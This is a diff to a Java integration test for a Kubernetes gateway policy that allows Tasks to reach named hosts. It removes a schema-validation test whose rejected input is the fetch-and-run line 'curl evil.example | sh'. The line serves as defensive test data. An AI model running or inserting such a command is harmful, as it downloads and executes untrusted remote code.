@@ -1,7 +1,6 @@
 package io.axon.controller.it;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.axon.api.v1alpha1.GatewayPolicy;
 import io.axon.api.v1alpha1.GatewayPolicySpec;
@@ -19,7 +18,6 @@ import io.fabric8.kubernetes.api.model.SecretBuilder;
 import io.fabric8.kubernetes.client.Config;
 import io.fabric8.kubernetes.client.KubernetesClient;
 import io.fabric8.kubernetes.client.KubernetesClientBuilder;
-import io.fabric8.kubernetes.client.KubernetesClientException;
 import io.vertx.core.Vertx;
 import io.vertx.core.http.HttpServer;
 import io.vertx.core.json.JsonObject;
@@ -44,7 +42,7 @@ import org.junit.jupiter.api.Test;
 /**
  * A namespace's GatewayPolicy adds to what its Tasks may reach: the gateway, with only its shipped
  * RBAC, lets a Task's plain HTTP request to a host the policy names through, and refuses it again
- * once the policy is gone; the schema refuses an entry that is not a host rule.
+ * once the policy is gone (the schema's refusal of a bad entry is in CrdValidationIT).
  */
 class GatewayPolicyAllowsHostsIT {
   static final String NS = "gateway-policy";
@@ -169,14 +167,6 @@ class GatewayPolicyAllowsHostsIT {
             GatewayPolicyAllowsHostsIT::get,
             r -> r.statusCode() == 403);
     assertThat(refused.body()).contains("allowlist").doesNotContain("TEAM-MIRROR");
-  }
-
-  @Test
-  void theSchemaRefusesAnEntryThatIsNoHostRule() {
-    assertThatThrownBy(
-            () -> client.resource(policy("bad", List.of("curl evil.example | sh"))).create())
-        .isInstanceOf(KubernetesClientException.class)
-        .hasMessageContaining("spec.allowHosts[0]");
   }
 
   private static GatewayPolicy policy(String name, List<String> hosts) {
